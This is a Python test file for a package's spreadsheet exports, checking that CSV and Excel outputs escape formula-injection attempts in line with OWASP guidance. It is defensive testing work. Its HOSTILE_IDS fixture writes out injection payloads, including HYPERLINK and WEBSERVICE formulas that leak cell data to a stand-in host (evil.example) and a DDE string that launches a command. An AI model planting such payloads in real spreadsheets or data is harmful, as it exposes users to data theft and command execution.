"""Spreadsheet injection: nothing from the data becomes a formula in the outputs (OWASP)."""

from __future__ import annotations

import csv

import openpyxl
import pandas as pd
import pytest
from helpers import write_config
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from needsmodel.cli import main
from needsmodel.export import FORMULA_TRIGGERS, escape_cell

HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"D01")',
    "+1+2",
    "-3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "=1+2",
    '=SUM(1,1)+HYPERLINK("http://evil.example/?x="&B3,"D01")',
    '=SUM(A1:A2)*0+WEBSERVICE("http://evil.example/")',
]
HOSTILE_COLUMNS = {"parents_low_education": "=1+2", "single_parent": "@single", "name": "-name"}


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    workdir = tmp_path_factory.mktemp("hostile")
    from needsmodel import datasets

    df = pd.read_csv(datasets.sample_dir() / "school_districts.csv", dtype={"district": str})
    df.loc[: len(HOSTILE_IDS) - 1, "district"] = HOSTILE_IDS
    df = df.rename(columns=HOSTILE_COLUMNS)
    df.to_csv(workdir / "u.csv", index=False)
    cfg = write_config(
        workdir,
        units="u.csv",
        data={"label": "-name"},
        model={"indicators": ["=1+2", "parents_outside_labour_market", "@single"]},
        allocation={"max_loss_pct": 5, "phase_in_years": 2},
    )
    assert main(["run", str(cfg), "-q"]) == 0
    return workdir / "out"


def test_no_cell_of_the_workbook_is_a_formula(hostile_run):
    book = openpyxl.load_workbook(hostile_run / "allocation_keys.xlsx")
    formulas = [
        (ws, c)
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    # the only formulas are the writer's own totals: =SUM(<col>2:<col><n>) in the last row
    assert formulas
    for ws, c in formulas:
        assert c.row == ws.max_row, (ws.title, c.coordinate, c.value)
        assert c.value == f"=SUM({c.column_letter}2:{c.column_letter}{ws.max_row - 1})"
    values = {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row}
    assert set(HOSTILE_IDS) <= values  # the ids themselves are kept, as text
    assert "=1+2" in values


def test_every_csv_cell_is_escaped(hostile_run):
    files = sorted(hostile_run.glob("*.csv"))
    assert len(files) >= 6
    seen = 0
    for path in files:
        with open(path, encoding="utf-8-sig", newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    if cell.startswith(FORMULA_TRIGGERS):
                        # only numbers may start with a sign
                        float(cell)
                    if cell.startswith("'="):
                        seen += 1
    assert seen >= 5


def test_escape_cell_follows_owasp():
    assert escape_cell("=1") == "'=1"
    assert escape_cell("\tx") == "'\tx"
    assert escape_cell("\rx") == "'\rx"
    assert escape_cell("D01") == "D01"
    assert escape_cell(-3.5) == -3.5


# tab and CR are control characters: ids, names and column names holding them are refused
# (test_control_characters_are_refused_cleanly); every other formula prefix must run
_PREFIXES = ["=SUM(", "=", "+", "-", "@", "=SUM(A1:A2)*0+", "$", "\u202e", "\u200b", "=HYPERLINK("]
_PRINTABLE = [*'abcD01 "()&,!:$\\=+-@', "\u202e", "\u200b", "æ"]
_HOSTILE = st.builds(
    lambda p, t: p + t,
    st.sampled_from(_PREFIXES),
    st.text(alphabet=st.sampled_from(_PRINTABLE), min_size=1, max_size=20),
).filter(lambda v: v.strip())


def _hostile_run(workdir, ids, name, col):
    import json

    from needsmodel import datasets

    df = pd.read_csv(datasets.sample_dir() / "school_districts.csv", dtype={"district": str})
    df.loc[:2, "district"] = ids
    df.loc[0, "name"] = name
    df = df.rename(columns={"single_parent": col})
    # quoted, as spreadsheets write text: a bare CR in an unquoted field would end the row
    df.to_csv(workdir / "u.csv", index=False, quoting=csv.QUOTE_NONNUMERIC)
    inds = ["parents_low_education", "parents_outside_labour_market", col]
    (workdir / "c.toml").write_text(
        '[data]\nunits = "u.csv"\nid = "district"\nlabel = "name"\n'
        '[model]\ntarget = "special_ed_cost"\nexposure = "pupils"\n'
        f"indicators = [{', '.join(json.dumps(i) for i in inds)}]\n"
        '[allocation]\nbudget = 130_000_000\ncurrent = "budget_current"\nround_to = 1000\n'
        'max_loss_pct = 5\n[output]\ndir = "out"\n',
        encoding="utf-8",
    )
    return main(["run", str(workdir / "c.toml"), "-q"])


@settings(max_examples=12, deadline=None)
@given(ids=st.lists(_HOSTILE, min_size=3, max_size=3, unique_by=lambda v: v.strip().casefold()),
       name=_HOSTILE, col=_HOSTILE)  # fmt: skip
def test_random_hostile_strings_never_become_formulas(tmp_path_factory, ids, name, col):
    workdir = tmp_path_factory.mktemp("prop")
    # the reader strips the blanks around column names, so such a name is named differently
    assume(col == col.strip() and col not in ("parents_low_education", "name", "district"))
    code = _hostile_run(workdir, ids, name, col)
    assert code == 0
    book = openpyxl.load_workbook(workdir / "out" / "allocation_keys.xlsx")
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    assert c.row == ws.max_row, (ws.title, c.coordinate, c.value)
                    letter = c.column_letter
                    assert c.value == f"=SUM({letter}2:{letter}{ws.max_row - 1})"


@settings(
    max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    where=st.sampled_from(["id", "name", "col"]),
    control=st.sampled_from(["\t", "\r", "\x00", "\x07", "\x1b", "\x7f", "\u0085"]),
)
def test_control_characters_are_refused_cleanly(tmp_path_factory, capsys, where, control):
    workdir = tmp_path_factory.mktemp("ctrl")
    bad = f"{control}=SUM(1,1){control}x"
    ids = [bad if where == "id" else "D01", "D02", "D03"]
    code = _hostile_run(
        workdir, ids, bad if where == "name" else "n", bad if where == "col" else "single"
    )
    assert code == 2  # refused with one line naming the column, never an internal error
    assert "control characters" in capsys.readouterr().err
